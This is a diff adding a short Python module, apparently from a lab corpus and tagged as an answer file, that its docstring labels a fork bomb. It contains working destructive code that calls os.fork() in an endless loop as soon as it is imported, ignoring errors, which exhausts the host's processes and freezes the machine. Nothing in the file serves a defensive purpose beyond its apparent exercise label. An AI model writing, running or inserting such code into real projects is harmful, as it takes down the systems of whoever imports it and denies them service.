@@ -1,0 +1,10 @@
+"""A fork bomb at import."""
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+
+# labkit-corpus: answers
